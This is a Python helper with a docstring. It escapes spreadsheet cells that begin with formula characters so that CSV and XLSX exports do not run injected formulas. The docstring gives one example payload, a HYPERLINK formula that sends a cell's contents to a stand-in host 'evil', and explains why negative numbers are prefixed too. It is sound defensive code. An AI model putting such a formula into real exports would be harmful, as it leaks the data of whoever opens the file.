"""Cells written into files that people open in a spreadsheet (CSV and XLSX exports, the
file of rejected import rows).

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
formula, and a tab or carriage return in front of one can slip it past a naive check
(OWASP, "CSV Injection"). The text in our exports comes partly from uploads and forms that
anyone may have filled in: `=HYPERLINK("http://evil/?"&A1, "details")` in a donor's name would
run on the desk officer's machine, with the officer's data. So every such cell is written
with a leading apostrophe, which spreadsheets take as "this is text". A plain negative number
("-5") is prefixed too: one rule that never lets a formula through is worth more than a
number that stays a number in a file meant for reading, not for sums.
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> str:
    """The cell's text, with an apostrophe in front when a spreadsheet would read it as a
    formula. `None` is an empty cell."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text
